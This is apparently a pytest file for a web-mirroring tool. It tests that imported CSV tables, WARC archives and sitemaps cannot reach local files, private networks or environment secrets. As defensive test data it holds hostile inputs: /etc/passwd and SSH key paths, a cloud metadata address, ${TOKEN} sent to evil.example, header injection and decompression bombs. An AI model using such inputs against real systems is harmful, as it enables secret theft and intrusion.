"""Files of strangers bring pages of the web, and nothing of this machine, unless it is allowed."""

import gzip
import io
import json
import zlib
from hashlib import sha256

import brotli
import pytest
import zstandard
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from warcio.statusandheaders import StatusAndHeaders
from warcio.warcwriter import WARCWriter

from unstale.errors import InvalidInput
from unstale.mirror.exchange.tables import import_elements, import_history
from unstale.mirror.exchange.warc import import_warc
from unstale.mirror.settings import Rule
from unstale.mirror.source import Known
from unstale.mirror.sources.allowed import check_allowed
from unstale.mirror.sources.http.fingerprint import BYTES
from unstale.mirror.sources.http.poll import _conditions
from unstale.mirror.sources.lists import read_list
from unstale.mirror.sources.registry import load_sources, source_for

from .conftest import open_mirror, settings_of

LOCAL = [
    ("/etc/passwd", "file"),
    ("/etc/passwd", "feed"),
    ("/etc/passwd", "sitemap"),
    ("file:///etc/passwd", "file"),
    ("file:///etc/passwd", "feed"),
    ("feed:/etc/passwd", "feed"),
    ("sitemap:file:///etc/passwd", "sitemap"),
    ("local:///etc/passwd", "file"),
    ("./secret.txt", "file"),
    ("~/.ssh/id_rsa", "file"),
    ("/etc/", "file"),
    ("s3://bucket/key", "file"),
    ("zip://a::/srv/x.zip", "file"),
    ("sqlite:////srv/shop.db#users", "sql"),
    ("postgresql://db.internal/shop#users", "sql"),
    ("postgresql://evil.example/${TOKEN}#users", "sql"),
]
"""What a stranger might name, and by which source."""
PRIVATE = [
    "http://169.254.169.254/latest",
    "http://localhost:8000/",
    "https://[::1]/",
    "http://wiki.internal/",
]
"""Pages that a stranger cannot see, but the mirror can."""


@pytest.mark.parametrize("source", ["http", "feed", "sitemap"])
@pytest.mark.parametrize("key", PRIVATE)
def test_a_file_brings_pages_of_the_private_network_only_if_allowed(key, source):
    with pytest.raises(InvalidInput, match="say --allow private"):
        check_allowed(key, source, {}, ())
    check_allowed(key, source, {}, ("private",))
    check_allowed("https://example.org/", source, {}, ())


def lines(rows):
    return "".join(",".join('"' + str(cell).replace('"', '""') + '"' for cell in row) + "\n" for row in rows)


def archive(path, records):
    """Write an archive of records: an address, and what it says of itself to unstale."""
    with path.open("wb") as file:
        writer = WARCWriter(file, gzip=False)
        for uri, ours in records:
            page = uri.startswith("http")
            http = StatusAndHeaders("200 OK", [("Content-Type", "text/html")], protocol="HTTP/1.1")
            headers = {"WARC-Date": "2024-05-06T07:08:09Z"}
            if ours is not None:
                headers["WARC-JSON-Metadata"] = json.dumps({"unstale": ours})
            writer.write_record(
                writer.create_warc_record(
                    uri,
                    "response" if page else "resource",
                    payload=io.BytesIO(b"x"),
                    length=1,
                    http_headers=http if page else None,
                    warc_headers_dict=headers,
                )
            )


@pytest.mark.parametrize("source_named", [True, False])
@pytest.mark.parametrize("exported", [True, False])
@pytest.mark.parametrize(("key", "source"), LOCAL)
def test_a_table_names_nothing_of_this_machine(tmp_path, key, source, source_named, exported):
    path = tmp_path / "elements.csv"
    row = [key, source if source_named else "", json.dumps({"source": source}) if exported else ""]
    path.write_text(lines([["key", "source", "given"], ["https://good.example/", "", ""], row]))
    with open_mirror(tmp_path / "new.db") as new:
        with pytest.raises(InvalidInput, match=r"row 3|line 3"):
            import_elements(new, path)
        assert not list(new.elements())


@pytest.mark.parametrize(("key", "source"), LOCAL)
def test_an_archive_names_nothing_of_this_machine(tmp_path, key, source):
    path = tmp_path / "theirs.warc"
    uri = key if ":" in key else f"file://{key}"
    said = {"key": key, "source": source}
    archive(
        path,
        [
            ("https://good.example/", None),
            (uri, None),
            (uri, said),
            ("https://good.example/", said),
            ("urn:x", {**said, "time": 1.0}),
        ],
    )
    with open_mirror(tmp_path / "new.db") as new:
        got = import_warc(new, path)
        assert [element.key for element in new.elements()] == ["https://good.example/"]
        assert (got.copies, got.elements, len(got.skipped)) == (1, 1, 4)


def test_what_is_allowed_comes(tmp_path):
    table, path = tmp_path / "elements.csv", tmp_path / "theirs.warc"
    table.write_text(lines([["key", "source"], ["/srv/a.txt", ""], ["/srv/feed.xml", "feed"]]))
    archive(path, [("file:///srv/b.txt", None), ("urn:x", {"key": "/srv/c.txt", "source": "file"})])
    with open_mirror(tmp_path / "new.db") as new:
        assert import_elements(new, table, allow=["file"]) == 2
        assert import_warc(new, path, allow=["file"]).elements == 2
        keys = {element.key for element in new.elements()}
        assert keys == {"/srv/a.txt", "/srv/feed.xml", "/srv/b.txt", "/srv/c.txt"}
        table.write_text(lines([["key"], ["sqlite:////srv/shop.db#users"]]))
        with pytest.raises(InvalidInput, match="say --allow sql"):
            import_elements(new, table, allow=["file"])


@pytest.mark.parametrize("column", ["options", "given"])
def test_variables_of_the_environment_are_not_sent_to_strangers(tmp_path, column):
    path = tmp_path / "elements.csv"
    options = {"headers": {"X-Token": "${TOKEN}"}}
    said = options if column == "options" else {"source": "http", "options": options}
    path.write_text(lines([["key", "source", column], ["https://evil.example/", "http", json.dumps(said)]]))
    with open_mirror(tmp_path / "new.db") as new:
        with pytest.raises(InvalidInput, match="--allow environment"):
            import_elements(new, path)
        assert import_elements(new, path, allow=["environment"]) == 1


def test_every_key_goes_through_its_source(tmp_path):
    """A key that its source would not make is refused or made right, whatever the file says of itself."""
    path, table = tmp_path / "theirs.warc", tmp_path / "elements.csv"
    bad = ["no address", "", " ", "http://", "http://[", "http:///x", "https://x.example:99999/"]
    bad += ["\x00", "x" * 5000]
    archive(path, [("urn:x", {"key": key, "source": "http"}) for key in [*bad, "HTTP://A.example:80/b"]])
    with open_mirror(tmp_path / "new.db") as new:
        got = import_warc(new, path)
        assert [element.key for element in new.elements()] == ["http://a.example/b"]
        assert len(got.skipped) == len(bad)
        assert all(why and "\n" not in why for _, why in got.skipped)
        for key in bad[:7]:
            table.write_text(lines([["key", "source", "given"], [key, "http", '{"source": "http"}']]))
            with pytest.raises(InvalidInput):
                import_elements(new, table)
        assert len(list(new.elements())) == 1


JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=5),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=5), inner, max_size=3),
    max_leaves=5,
)
FIELDS = ["time", "modified", "first", "media_type", "meta", "fingerprint", "validators", "source", "key"]


@settings(max_examples=40, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(said=st.dictionaries(st.sampled_from(FIELDS), JSON))
def test_whatever_a_record_says_of_itself_is_taken_or_told(tmp_path_factory, said):
    folder = tmp_path_factory.mktemp("nonsense")
    key = "https://x.example/"
    archive(folder / "a.warc", [(key, {"key": key, "source": "http", **said})])
    with open_mirror(folder / "new.db") as new:
        got = import_warc(new, folder / "a.warc")
        assert got.elements + len(got.skipped) == 1
        assert not new.store.check()


def test_lists_opml_and_sitemaps_name_nothing_of_this_machine(tmp_path):
    opml = '<opml version="2.0"><body>{}</body></opml>'
    index = '<sitemapindex xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">{}</sitemapindex>'
    urls = '<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">{}</urlset>'
    for key, source in LOCAL:
        texts = {
            "list": key,
            "csv": lines([["key", "source"], [key, source]]),
            "opml": opml.format(f'<outline xmlUrl="{key}"/><outline type="link" url="{key}"/>'),
            "index": index.format(f"<sitemap><loc>{key}</loc></sitemap>"),
            "sitemap": urls.format(f"<url><loc>{key}</loc></url>"),
        }
        for kind, text in texts.items():
            path = tmp_path / "list"
            path.write_text(text)
            with open_mirror(tmp_path / f"{kind}.db") as new:
                news = [listed.new for listed in read_list(path)]
                assert new.add_many(news, allow=()).added == 0, (kind, key)
                assert not list(new.elements())


def test_only_the_web_and_functions_need_no_leave():
    """Of all sources that there are, so that a new one is thought of."""
    free = set()
    for name in load_sources(settings_of()):
        try:
            check_allowed("https://x.example/", name, {}, ())
        except InvalidInput:
            continue
        free.add(name)
    assert free == {"http", "feed", "sitemap", "python"}
    assert source_for("python:x")[0] == "python"
    with pytest.raises(InvalidInput, match="too long: 50,000,000 characters, of at most 10,000") as told:
        source_for("a" * 50_000_000)
    assert len(str(told.value)) < 200


def test_an_archive_gets_no_secrets_and_leaves_nothing_that_cannot_be_told(tmp_path):
    deep = {}
    for _ in range(900):
        deep = {"a": deep}
    rule = Rule("https://api.example/*", options={"headers": {"Authorization": "Bearer x", "DNT": "1"}})
    asked = {"key": "https://api.example/delete?id=1", "source": "http"}
    told = {"key": "https://other.example/", "source": "http", "meta": {"deep": deep, "title": "x"}}
    archive(
        tmp_path / "a.warc", [(asked["key"], asked), ("https://api.example/b", None), (told["key"], told)]
    )
    with open_mirror(tmp_path / "m.db", rules=(rule,)) as mirror:
        assert import_warc(mirror, tmp_path / "a.warc").copies == 3
        options = {one.key: one.options for one in mirror.elements()}
        for key in (asked["key"], "https://api.example/b"):
            assert options[key] == {"headers": {"DNT": "1"}}
        assert [one.meta for one in mirror.changes() if one.key == told["key"]] == [{}]


def written(path, *parts):
    """Write an archive, gzipped as a whole if its name says so, from parts that may be endless."""
    opened = gzip.open if path.suffix == ".gz" else open
    with opened(path, "wb") as file:
        for part in parts:
            file.write(part)
    return path


def page_of(content, *, date="2024-05-06T07:08:09Z", more=()):
    """Return a record of a page, with these headers of HTTP."""
    http = b"".join([b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n", *more, b"\r\n"])
    head = "WARC/1.0\r\nWARC-Type: response\r\nWARC-Target-URI: https://x.example/\r\n"
    head += f"WARC-Date: {date}\r\nContent-Type: application/http; msgtype=response\r\n"
    head += f"Content-Length: {len(http) + len(content)}\r\n\r\n"
    return head.encode() + http + content + b"\r\n\r\n"


def test_headers_of_an_archive_have_a_bound(tmp_path):
    """Reproduced: 300 kB, gzipped, took a gigabyte and minutes."""
    long, many = [b"a" * (1 << 20)] * 6, [b"X: y\r\n" * 11_000]
    end = b"\r\nContent-Length: 0\r\n\r\n\r\n\r\n"
    http = page_of(b"x", more=[b"X: ", *long, b"\r\n"])
    archives = [[b"WARC/1.0\r\nX: ", *long, end], [b"WARC/1.0\r\n", *many, end], [http]]
    for parts in archives:
        for name in ("a.warc", "a.warc.gz"):
            path = written(tmp_path / name, *parts)
            with (
                open_mirror(tmp_path / "new.db") as new,
                pytest.raises(InvalidInput, match="lines of headers"),
            ):
                import_warc(new, path)


def coded(coding, content):
    if coding == "gzip":
        return gzip.compress(content)
    if coding == "deflate":
        return zlib.compress(content)
    return brotli.compress(content) if coding == "br" else zstandard.compress(content)


@pytest.mark.parametrize("chunked", [True, False])
@pytest.mark.parametrize("coding", ["gzip", "deflate", "br", "zstd"])
def test_contents_of_an_archive_are_decoded_within_limits(tmp_path, coding, chunked):
    """Reproduced: br failed the archive, zstd was kept undecoded, and bombs were unpacked to the end."""
    for content, words in ((b"<p>content", None), (bytes(9_000_000), "max_size")):
        packed = coded(coding, content)
        more = [f"Content-Encoding: {coding}\r\n".encode()]
        if chunked:
            more.append(b"Transfer-Encoding: chunked\r\n")
            parts = [packed[at : at + 7] for at in range(0, len(packed), 7)]
            packed = b"".join(b"%x;a=b\r\n%b\r\n" % (len(part), part) for part in parts) + b"0\r\n\r\n"
        path = written(tmp_path / "a.warc", page_of(packed, more=more))
        with open_mirror(tmp_path / f"{words}.db", max_size=1_000_000) as new:
            got = import_warc(new, path)
            if words is None:
                assert new.read("https://x.example/").body == content
            else:
                assert got.copies == 0
                assert words in got.skipped[0][1]
            assert not list(new.copies.scratch.iterdir())


def test_contents_that_are_not_coded_as_they_say_are_taken_as_they_are(tmp_path):
    more = [b"Content-Encoding: gzip\r\n", b"Transfer-Encoding: chunked\r\n"]
    path = written(tmp_path / "a.warc", page_of(b"<html>plain\r\nand more", more=more))
    with open_mirror(tmp_path / "new.db") as new:
        assert import_warc(new, path).copies == 1
        assert new.read("https://x.example/").body == b"<html>plain\r\nand more"
        path = written(tmp_path / "b.warc", page_of(b"x", more=[b"Content-Encoding: rot13\r\n"]))
        assert "rot13" in import_warc(new, path).skipped[0][1]


@pytest.mark.parametrize("date", ["0001-01-01T00:00:00Z", "1969-12-31T23:59:59Z", "5138-01-01T00:00:00Z"])
def test_records_are_dated_in_the_past(tmp_path, date):
    path = written(tmp_path / "a.warc", page_of(b"x", date=date))
    with open_mirror(tmp_path / "new.db") as new:
        got = import_warc(new, path)
        assert (got.copies, got.elements) == (0, 0)
        assert date in got.skipped[0][1]
        said = {"key": "https://x.example/", "source": "http", "time": 9e10, "modified": -6e10}
        archive(tmp_path / "b.warc", [("https://x.example/", said)])
        assert import_warc(new, tmp_path / "b.warc").copies == 1
        version = new.read("https://x.example/").version
        assert (version.time, version.modified) == (1714979289.0, None)
        (tmp_path / "h.csv").write_text("key,time,changed\nhttps://x.example/,9e10,true\n")
        with pytest.raises(InvalidInput, match="not in the future"):
            import_history(new, tmp_path / "h.csv")


def test_an_archive_cannot_make_a_forged_copy_stay(tmp_path):
    """What the next poll asks with comes from answers, not from files: else 304 would confirm a forgery."""
    key = "https://x.example/"
    digest = sha256(b"true").hexdigest()
    asks = {"url": key, "etag": '"true"\r\nX: y', "status": 200, "type": "text/html"}
    said = {"key": key, "source": "http", "fingerprint": f"bytes:{digest}", "validators": asks}
    archive(tmp_path / "a.warc", [(key, said)])
    with open_mirror(tmp_path / "new.db") as new:
        assert import_warc(new, tmp_path / "a.warc").copies == 1
        element = new.find(key)
        assert element.validators == {}
        assert element.fingerprint == sha256(b"x").hexdigest()
    with open_mirror(tmp_path / "ours.db") as new:
        assert import_warc(new, tmp_path / "a.warc", allow=["validators"]).copies == 1
        element = new.find(key)
        assert element.validators == asks
        known = Known(key, {}, element.validators, element.fingerprint)
        assert _conditions(known, key, BYTES) == {}  # what cannot be sent is not
